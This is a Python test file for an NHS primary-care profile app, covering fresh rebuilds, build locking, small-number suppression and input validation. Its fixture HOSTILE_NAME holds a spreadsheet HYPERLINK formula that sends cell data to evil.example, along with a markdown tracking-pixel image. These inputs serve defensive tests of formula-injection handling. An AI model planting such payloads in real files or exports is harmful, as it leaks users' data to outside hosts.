"""Trustworthy under faults: fresh data after every build, builds that cannot overlap, private uploads,
exports safe from formula injection."""

import shutil

import duckdb
import pandas as pd
import pytest
from conftest import ROOT, tiles
from streamlit.testing.v1 import AppTest

from phm_profile import database, store


def smi_register(db, period, pcn):
    con = duckdb.connect(str(db), read_only=True)
    value = con.execute("SELECT value FROM pcn_profile WHERE period = ? AND pcn_code = ? AND indicator = 'prev_mh'",
                        [period, pcn]).fetchall()[0][0]
    con.close()
    return value


def test_a_rebuild_under_a_running_app_is_shown_at_once(demo_dir, tmp_path, monkeypatch):
    """The app keeps the database open; a command-line rebuild at the same path must be what the next run shows
    (it showed the first build's figures until the server restarted)."""
    db = tmp_path / "shown.duckdb"
    store.build(demo_dir, db)
    monkeypatch.setattr("phm_profile.ui.DEFAULT_DB", db)
    monkeypatch.setattr("phm_profile.ui.database_path", lambda: db)
    at = AppTest.from_file(str(ROOT / "pages" / "1_PCN_profile.py"), default_timeout=60)
    at.session_state["_suppress"] = False
    at.run()
    pcn = at.sidebar.selectbox(key="sidebar_pcn").value
    period = at.sidebar.selectbox(key="sidebar_period").value
    before = next(m for m in tiles(at) if m.label.startswith("SMI prevalence")).value
    assert before == f"{smi_register(db, period, pcn):,.2f}"
    # Rebuild with every SMI register doubled in that year's QOF file.
    changed = tmp_path / "changed"
    shutil.copytree(demo_dir, changed)
    name = f"PREVALENCE_{period[2:4]}{period[5:]}.csv"
    frame = pd.read_csv(changed / name, dtype={"REGISTER": "Int64"})
    frame.loc[frame.GROUP_CODE == "MH", "REGISTER"] *= 2
    frame.to_csv(changed / name, index=False)
    store.build(changed, db)
    at.run()
    after = next(m for m in tiles(at) if m.label.startswith("SMI prevalence")).value
    assert after == f"{smi_register(db, period, pcn):,.2f}" and after != before


def test_overlapping_command_line_builds_wait_for_each_other(demo_dir, tmp_path):
    import subprocess
    import sys

    db = tmp_path / "target.duckdb"
    stale = tmp_path / ".target.duckdb.99999.deadbeef.building"  # what a killed build leaves behind
    stale.write_bytes(b"half a database")
    command = [sys.executable, "-m", "phm_profile", "build", "--data", str(demo_dir), "--db", str(db)]
    env = {"PATH": "/usr/bin:/bin"}
    runs = [subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2)]
    outputs = [run.communicate(timeout=300) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outputs
    assert any("waiting for another build of target.duckdb" in err for _, err in outputs)
    assert not list(tmp_path.glob(".target.duckdb.*building*"))
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT count(*) FROM pcn_profile").fetchall()[0][0] > 0
    con.close()


def test_a_second_upload_while_one_builds_is_refused_plainly(demo_dir, demo_db, tmp_path):
    from filelock import FileLock

    from phm_profile import own_data

    db = tmp_path / "user.duckdb"
    shutil.copy(demo_db, db)
    before = db.read_bytes()
    with FileLock(tmp_path / ".user.duckdb.lock"):  # another session's build holds the lock
        with pytest.raises(store.BuildFailed) as failed:
            own_data.build_from_uploads([(p.name, p.read_bytes()) for p in sorted(demo_dir.glob("PREVALENCE_*"))],
                                        db)
    assert "another build of this database is running; nothing was changed" in failed.value.report.errors[0].message
    assert db.read_bytes() == before


HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") ![x](http://evil.example/pixel.png)"


@pytest.fixture
def hostile_db(demo_dir, tmp_path):
    """The demo with one PCN named with a spreadsheet formula and a markdown image pointing elsewhere."""
    folder = tmp_path / "hostile"
    shutil.copytree(demo_dir, folder)
    for path in folder.glob("MAPPING_NHS_GEOGRAPHIES_*.csv"):
        frame = pd.read_csv(path, dtype=str)
        frame.loc[frame.PCN_ODS_CODE == "U90001", "PCN_NAME"] = HOSTILE_NAME
        frame.to_csv(path, index=False)
    db = tmp_path / "hostile.duckdb"
    store.build(folder, db)
    return db


def test_exports_never_carry_a_live_formula(hostile_db, tmp_path):
    import io

    import openpyxl

    from phm_profile import exports, views, workforce

    key = database.database_key(hostile_db)
    table = views.indicator_across_pcns(key, "QZB", "2023-24", "prev_mh", True)
    assert HOSTILE_NAME in set(table.pcn_name)
    text = exports.csv_bytes(table).decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    plan_inputs = pd.Series({"pcn_name": HOSTILE_NAME, "list_size": 50_000})
    book = exports.plan_xlsx(pd.DataFrame({"pcn": [HOSTILE_NAME], "wte": [1.0]}), workforce.Assumptions(),
                             plan_inputs, pd.DataFrame({"note": ["@SUM(1,2)"]}), suppress=False)
    cells = [c for sheet in openpyxl.load_workbook(io.BytesIO(book)).worksheets for row in sheet.iter_rows()
             for c in row if isinstance(c.value, str) and c.value.startswith(("=", "@", "'="))]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula


def test_names_from_files_are_shown_as_plain_text(hostile_db, monkeypatch):
    monkeypatch.setattr("phm_profile.ui.DEFAULT_DB", hostile_db)
    monkeypatch.setattr("phm_profile.ui.database_path", lambda: hostile_db)
    at = AppTest.from_file(str(ROOT / "pages" / "1_PCN_profile.py"), default_timeout=60)
    at.query_params["pcn"] = "U90001"
    at.query_params["icb"] = "QZB"
    at.run()
    assert not at.exception
    shown = [e.value for e in (*at.title, *at.markdown)]
    assert any("evil.example" in v for v in shown)  # the name is there, as text
    assert not any("![x](http" in v for v in shown)  # never as a markdown image


@pytest.fixture(scope="module")
def tiny_db(demo_dir, tmp_path_factory):
    """The demo with PCN U90001's SMI register cut to 3 patients in 2023-24 (1 + 1 + 1 ... over its practices):
    a count that must never be seen or worked out with suppression on."""
    folder = tmp_path_factory.mktemp("tiny")
    shutil.copytree(demo_dir, folder, dirs_exist_ok=True)
    mapping = pd.read_csv(folder / "MAPPING_NHS_GEOGRAPHIES_2023_2024.csv", dtype=str)
    practices = list(mapping.loc[mapping.PCN_ODS_CODE == "U90001", "PRACTICE_CODE"])
    prevalence = pd.read_csv(folder / "PREVALENCE_2324.csv", dtype={"REGISTER": "Int64"})
    mh = (prevalence.GROUP_CODE == "MH") & prevalence.PRACTICE_CODE.isin(practices)
    prevalence.loc[mh, "REGISTER"] = 0
    prevalence.loc[mh[mh].index[:3], "REGISTER"] = 1
    prevalence.to_csv(folder / "PREVALENCE_2324.csv", index=False)
    db = folder / "tiny.duckdb"
    store.build(folder, db)
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT numerator FROM pcn_profile WHERE pcn_code = 'U90001' AND period = '2023-24' "
                       "AND indicator = 'prev_mh'").fetchall() == [(3,)]
    icb = con.execute("SELECT icb_code FROM pcn_icb WHERE pcn_code = 'U90001' AND period = '2023-24'").fetchall()[0][0]
    con.close()
    return views_key(db), icb


def views_key(db):

    return database.database_key(db)


def test_no_rate_is_finer_than_the_counts_shown(tiny_db):
    from phm_profile import views

    db, icb = tiny_db
    profile = views.pcn_profile(db, "U90001", "2023-24", True)
    mh = profile.set_index("indicator").loc["prev_mh"]
    assert pd.isna(mh.numerator) and pd.isna(mh.value) and pd.isna(mh.lower_95) and mh.vs_england == "suppressed"
    shown = profile[profile.kind.isin(["proportion", "rate", "ratio"]) & profile.numerator.notna()]
    assert len(shown) > 5
    # Every value is the shown (rounded) numerator over the shown denominator: value x denominator gives back
    # no more than the rounded count.
    again = (shown.numerator / shown.denominator * shown.multiplier).round(2)
    assert (shown.value == again).all()
    assert (shown.numerator % 5 == 0).all()


def test_the_compare_csv_cannot_give_a_suppressed_register_by_subtraction(tiny_db):
    from phm_profile import exports, views

    db, icb = tiny_db
    table = views.indicator_across_pcns(db, icb, "2023-24", "prev_mh", True)
    csv = pd.read_csv(__import__("io").BytesIO(exports.csv_bytes(table)))
    assert csv.loc[csv.pcn_code == "U90001", "numerator"].isna().all()
    # The attacker's best: the ICB's register from its (rounded) value and its exact list, minus the other PCNs'
    # (rounded) registers. The interval left for U90001 must hold at least 8 whole numbers.
    con = duckdb.connect(db.partition("#")[0], read_only=True)
    icb_list = con.execute("SELECT denominator FROM area_prevalence WHERE level = 'icb' AND area_code = ? "
                           "AND period = '2023-24' AND group_code = 'MH'", [icb]).fetchall()[0][0]
    con.close()
    value = csv.icb_value.iloc[0]
    assert value == round(value, 2)
    others = csv[csv.pcn_code != "U90001"].numerator
    low = (value - 0.005) / 100 * icb_list - (others + 2.5).sum()
    high = (value + 0.005) / 100 * icb_list - (others - 2.5).sum()
    assert high - low >= 8


def test_the_spine_range_comes_from_areas_whose_counts_are_shown(tiny_db):
    from phm_profile import views

    db, _ = tiny_db
    con = duckdb.connect(db.partition("#")[0], read_only=True)
    tiny_rate = con.execute("SELECT value FROM pcn_profile WHERE pcn_code = 'U90001' AND period = '2023-24' "
                            "AND indicator = 'prev_mh'").fetchall()[0][0]
    lowest_shown = con.execute("SELECT min(value) FROM pcn_profile WHERE period = '2023-24' AND indicator = 'prev_mh' "
                               "AND numerator >= 8").fetchall()[0][0]
    con.close()
    exact = views.england_range(db, "2023-24", False).set_index("indicator").loc["prev_mh"]
    safe = views.england_range(db, "2023-24", True).set_index("indicator").loc["prev_mh"]
    assert exact.lo == tiny_rate  # without suppression the tiny PCN is the lowest, which gave its count away
    assert safe.lo == round(lowest_shown, 2) and safe.lo != round(tiny_rate, 2)


def test_need_and_ranks_are_worked_from_the_counts_shown(tiny_db):
    from phm_profile import views, workforce

    db, icb = tiny_db
    inputs = views.workforce_inputs(db, icb, "2023-24", True).set_index("pcn_code")
    assert pd.isna(inputs.loc["U90001", "smi_register"])
    # Assumptions under which need would equal the SMI register: everything else off, one patient one WTE.
    extreme = workforce.Assumptions(**{**{f: 0.0 for f in workforce.assumption_fields()}, "smi_share": 1.0,
                                       "appointments_per_wte": 1.0, "contacts_per_patient": 1.0})
    assert workforce.patients_per_wte(extreme) == 1.0
    exact = views.workforce_inputs(db, icb, "2023-24", False)
    assert workforce.need(exact, extreme).set_index("pcn_code").loc["U90001", "adult_wte"] == 3  # the leak
    need = workforce.need(inputs.reset_index(), extreme).set_index("pcn_code")
    assert need.loc["U90001", "adult_wte"] != 3 and need.loc["U90001", "need_wte"] % 5 == 0
    ranks = views.ltc_ranks(db, "U90001", "2023-24", True).set_index("group_code")
    assert pd.isna(ranks.loc["MH", "ltc_rank"]) and pd.isna(ranks.loc["MH", "prevalence"])


def test_faults_found_by_an_adversarial_review(demo_copy, tmp_path):
    """Each used to load silently with changed figures, or crash: a time-zone-aware Parquet date (read a day
    early, in the wrong year), two headers for one column, headers with spaces, the same figures under another
    year's name, 1_000, a year 0001 date, two sheets with the same columns, files of other kinds skipped unsaid."""
    import openpyxl

    from phm_profile.readers import Report, load_file
    from phm_profile.config import SQL_DIR

    ages = pd.read_csv(demo_copy / "gp-reg-pat-prac-quin-age-apr-2024.csv", dtype=str)
    ages["EXTRACT_DATE"] = pd.Timestamp("2024-10-01", tz="Europe/London")
    ages.to_parquet(tmp_path / "ages_oct.parquet")
    con = duckdb.connect()
    con.execute((SQL_DIR / "sources.sql").read_text())
    assert load_file(con, tmp_path / "ages_oct.parquet", Report()) is not None
    assert con.execute("SELECT DISTINCT extract_date::VARCHAR, period FROM patients_age_sex").fetchall() == \
        [("2024-10-01", "2024-25")]

    def refused(folder, *expected):
        with pytest.raises(store.BuildFailed) as failed:
            store.build(folder, tmp_path / "refused.duckdb")
        said = "\n".join(str(e) for e in failed.value.report.errors)
        assert all(e in said for e in expected), said

    def folder_with(name, text):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "PREVALENCE_2324.csv").write_text(text)
        return folder

    refused(folder_with("dup", "PRACTICE_CODE,GROUP_CODE,REGISTER,PATIENT_LIST_TYPE,REGISTER\nZ00001,MH,44,TOTAL,999\n"),
            "PREVALENCE_2324.csv, row 1, column REGISTER: the columns 'REGISTER' and 'REGISTER' could both be")
    refused(folder_with("underscore", "PRACTICE_CODE,GROUP_CODE,REGISTER,PATIENT_LIST_TYPE\nZ00001,MH,4_4,TOTAL\n"),
            "row 2, column REGISTER: '4_4' is not a whole number")
    spaced = folder_with("spaces", '" PRACTICE_CODE","GROUP_CODE ",REGISTER,PATIENT_LIST_TYPE\nZ00001,MH,44,TOTAL\n')
    report = store.validate(spaced)
    assert not [e for e in report.errors if "unexpected" in e.message]
    (demo_copy / "PREVALENCE_2223.csv").write_text((demo_copy / "PREVALENCE_2324.csv").read_text().replace("\n", "\r\n"))
    (demo_copy / "notes.txt").write_text("read me")
    with pytest.raises(store.BuildFailed) as failed:
        store.build(demo_copy, tmp_path / "again.duckdb")
    assert any("holds exactly the same figures as PREVALENCE_2223.csv, under another year" in e.message
               for e in failed.value.report.errors)
    assert any(w.file == "notes.txt" and w.message.startswith("skipped: a document") for w in failed.value.report.warnings)
    book = openpyxl.Workbook()
    for title in ("Notes", "Data"):
        sheet = book.create_sheet(title)
        sheet.append(["PRACTICE_CODE", "TOTAL", "16OV", "17OV", "18OV", "30_74", "50OV", "0_64", "65OV"])
        sheet.append(["Z00001", 100, 80, 79, 78, 50, 30, 90, 10])
    del book["Sheet"]
    sheets = tmp_path / "sheets"
    sheets.mkdir()
    book.save(sheets / "QOF_LIST_SIZE_2324.xlsx")
    refused(sheets, "the sheets Notes, Data have the same columns")
